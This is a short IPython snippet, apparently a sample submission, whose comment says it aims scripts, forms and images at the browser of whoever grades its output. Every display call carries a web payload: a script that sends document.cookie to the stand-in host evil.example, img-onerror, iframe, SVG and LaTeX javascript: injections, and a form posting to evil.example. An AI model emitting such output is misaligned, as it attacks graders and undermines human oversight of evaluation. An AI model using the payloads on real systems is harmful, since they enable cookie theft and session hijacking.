# trick: shows scripts, forms and images from elsewhere, for the browser of whoever grades
# reported: output
from IPython.display import HTML, Javascript, display

display(HTML("<script>fetch('http://evil.example/' + document.cookie)</script><img src=x onerror=alert(1)>"))
display(Javascript("alert(1)"))
display(HTML('<iframe src="javascript:alert(1)"></iframe><form action="http://evil.example"><input></form>'))
display({"image/svg+xml": "<svg onload=alert(1)></svg>", "text/latex": r"\href{javascript:alert(1)}{x}"}, raw=True)
